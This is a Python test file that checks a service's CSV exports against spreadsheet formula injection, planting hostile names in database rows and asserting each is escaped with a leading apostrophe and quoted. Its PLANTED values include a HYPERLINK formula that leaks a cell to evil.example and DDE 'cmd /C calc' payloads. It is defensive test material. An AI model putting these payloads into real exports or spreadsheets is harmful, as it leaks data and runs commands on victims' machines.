"""CSV exports cannot run formulas in a spreadsheet (OWASP's CSV injection rule).

Names that start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return are planted in every
kind of row the exports carry (communities, compounds, buildings, stations and so their service
areas); in every layer's CSV, every text cell that starts with one of them is shown with a leading
``'`` and quoted, and numbers (negative ones too) stay numbers.
"""

from __future__ import annotations

import csv
import io

from sqlalchemy import select

from service.areas.models import Area, AreaLevel
from service.buildings.models import Building
from service.exports.service import LAYERS
from service.stations.models import Station

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PLANTED = {
    "community": '=HYPERLINK("http://evil.example/?leak="&A1,"点击 click")',
    "compound": "+1+cmd|' /C calc'!A0",
    "building": "-2+3+cmd|' /C calc'!A0",
    "station": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address": "\t=1+1",
    "hours": "\r=1+1",
}


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _plant(db) -> dict:
    """Set the planted names; returns what to put back."""
    with db.writer() as s, s.begin():
        community = s.scalar(select(Area).where(Area.level == AreaLevel.COMMUNITY).order_by(Area.id))
        compound = s.scalar(select(Area).where(Area.level == AreaLevel.COMPOUND).order_by(Area.id))
        building = s.scalar(select(Building).order_by(Building.id))
        station = s.scalar(select(Station).order_by(Station.id))
        saved = {
            "community": (Area, community.id, "name_zh", community.name_zh),
            "compound": (Area, compound.id, "name_zh", compound.name_zh),
            "building": (Building, building.id, "name_zh", building.name_zh),
            "station": (Station, station.id, "name_zh", station.name_zh),
            "address": (Station, station.id, "address_zh", station.address_zh),
            "hours": (Station, station.id, "opening_hours", station.opening_hours),
        }
        for key, (model, row_id, column, _old) in saved.items():
            setattr(s.get(model, row_id), column, PLANTED[key])
    return saved


def _restore(db, saved: dict) -> None:
    with db.writer() as s, s.begin():
        for model, row_id, column, old in saved.values():
            setattr(s.get(model, row_id), column, old)


def test_every_csv_export_neutralises_formula_cells(secured):
    saved = _plant(secured.db)
    try:
        seen: set[str] = set()
        with secured.client("planner") as planner:
            for layer in LAYERS:
                r = planner.get("/api/v1/export", params={"layers": layer, "format": "csv"})
                assert r.status_code == 200, r.text
                text = r.content.decode("utf-8-sig")
                rows = list(csv.reader(io.StringIO(text, newline="")))
                assert len(rows) > 1, layer
                for row in rows:
                    for cell in row:
                        if cell.startswith(DANGEROUS):
                            assert _is_number(cell), (layer, cell)
                        if cell.startswith("'") and cell[1:] in PLANTED.values():
                            seen.add(cell[1:])
                            assert f'"{cell.replace(chr(34), chr(34) * 2)}"' in text  # quoted
        assert seen == set(PLANTED.values())
    finally:
        _restore(secured.db, saved)
